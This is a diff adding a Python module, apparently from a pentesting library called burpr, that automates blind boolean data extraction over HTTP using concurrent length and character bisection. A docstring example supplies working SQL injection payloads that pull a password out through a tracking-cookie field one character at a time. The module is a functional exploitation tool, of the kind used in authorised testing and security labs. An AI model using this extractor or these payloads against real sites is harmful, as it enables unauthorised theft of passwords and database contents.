@@ -0,0 +1,156 @@
+import asyncio
+import inspect
+from burpr.matchers import ResponseMatcher
+from burpr.runners.async_runner import as_template, new_async_client
+
+
+class _Oracle:
+    """Send one condition payload and reduce the response to True or False."""
+
+    def __init__(self, template, oracle, client, **kwargs):
+        self.template = template
+        self.oracle = oracle
+        self.client = client
+        self.kwargs = kwargs
+
+    async def __call__(self, payload):
+        req = self.template.render(payload)
+        if isinstance(self.oracle, ResponseMatcher):
+            return bool(await self.oracle.amatch(req, self.client, **self.kwargs))
+
+        res = await req.amake_request(self.client, **self.kwargs)
+        verdict = self.oracle(res)
+        if inspect.isawaitable(verdict):
+            verdict = await verdict
+        return bool(verdict)
+
+
+async def find_length(ask, length_payload, max_length=256):
+    """Find a length with exponential then binary search.
+
+    Args:
+        ask: Async callable sending a payload and returning the oracle's verdict
+        length_payload: Callable n -> payload mapping for the condition "length > n"
+        max_length: Give up beyond this length (default: 256)
+
+    Returns:
+        The length, in about 2 * log2(length) requests
+    """
+    if not await ask(length_payload(0)):
+        return 0
+
+    # Double until the length is bounded: lo < length <= hi
+    lo, hi = 0, 1
+    while await ask(length_payload(hi)):
+        lo, hi = hi, hi * 2
+        if lo >= max_length:
+            raise ValueError(f"Length exceeds max_length ({max_length})")
+
+    while hi - lo > 1:
+        mid = (lo + hi) // 2
+        if await ask(length_payload(mid)):
+            lo = mid
+        else:
+            hi = mid
+    return hi
+
+
+async def find_char(ask, char_payload, position, low=32, high=126):
+    """Find the character code at a position by bisection.
+
+    Args:
+        ask: Async callable sending a payload and returning the oracle's verdict
+        char_payload: Callable (position, code) -> payload mapping for the
+                      condition "code at position > code"
+        position: 1-based character position
+        low: Lowest character code considered (default: 32)
+        high: Highest character code considered (default: 126)
+
+    Returns:
+        The character, in about log2(high - low + 1) requests
+    """
+    while low < high:
+        mid = (low + high) // 2
+        if await ask(char_payload(position, mid)):
+            low = mid + 1
+        else:
+            high = mid
+    return chr(low)
+
+
+async def aextract(template, oracle, char_payload, length_payload=None, length=None,
+                   concurrency=8, low=32, high=126, max_length=256, client=None,
+                   callback=None, **kwargs):
+    """Extract a string through a boolean blind oracle.
+
+    The length is found with exponential then binary search, and every
+    character with binary search over its code: about 7 requests per
+    printable ASCII character instead of one per alphabet symbol.
+    Characters are extracted concurrently, up to `concurrency` at a time.
+
+    Args:
+        template: BurpTemplate (or BurpRequest, compiled on the fly)
+        oracle: Callable response -> bool (may be async), or a ResponseMatcher
+                whose verdict is used and which stops reading the body early
+        char_payload: Callable (position, code) -> payload mapping expressing
+                      "the character code at 1-based position is > code"
+        length_payload: Callable n -> payload mapping expressing "the length
+                        is > n". Required unless length is given.
+        length: Known length, skipping the length search
+        concurrency: Characters extracted at the same time (default: 8)
+        low: Lowest character code considered (default: 32)
+        high: Highest character code considered (default: 126)
+        max_length: Give up the length search beyond this (default: 256)
+        client: Optional httpx.AsyncClient. A client sized for the
+                concurrency is created and closed if omitted.
+        callback: Optional callable (position, char) run as each character is found
+        **kwargs: Additional arguments to pass to httpx
+
+    Returns:
+        The extracted string
+    """
+    if length is None and length_payload is None:
+        raise ValueError("Either length or length_payload is required")
+    if concurrency < 1:
+        raise ValueError("concurrency must be at least 1")
+
+    template = as_template(template)
+    owns_client = client is None
+    if owns_client:
+        client = new_async_client(template, concurrency)
+
+    ask = _Oracle(template, oracle, client, **kwargs)
+    semaphore = asyncio.Semaphore(concurrency)
+
+    async def extract_char(position):
+        async with semaphore:
+            char = await find_char(ask, char_payload, position, low, high)
+        if callback is not None:
+            callback(position, char)
+        return char
+
+    try:
+        if length is None:
+            length = await find_length(ask, length_payload, max_length)
+        chars = await asyncio.gather(*(extract_char(position) for position in range(1, length + 1)))
+        return "".join(chars)
+    finally:
+        if owns_client:
+            await client.aclose()
+
+
+def extract(template, oracle, char_payload, length_payload=None, length=None,
+            concurrency=8, low=32, high=126, max_length=256, client=None,
+            callback=None, **kwargs):
+    """Synchronous wrapper around aextract().
+
+    Example:
+        password = burpr.blind.extract(
+            template,
+            oracle=lambda res: "Welcome back" in res.text,
+            length_payload=lambda n: {"%TRACKING_ID%": f"x' AND LENGTH(password)>{n}--"},
+            char_payload=lambda i, c: {"%TRACKING_ID%": f"x' AND ASCII(SUBSTRING(password,{i},1))>{c}--"},
+        )
+    """
+    return asyncio.run(aextract(template, oracle, char_payload, length_payload, length,
+                                concurrency, low, high, max_length, client, callback, **kwargs))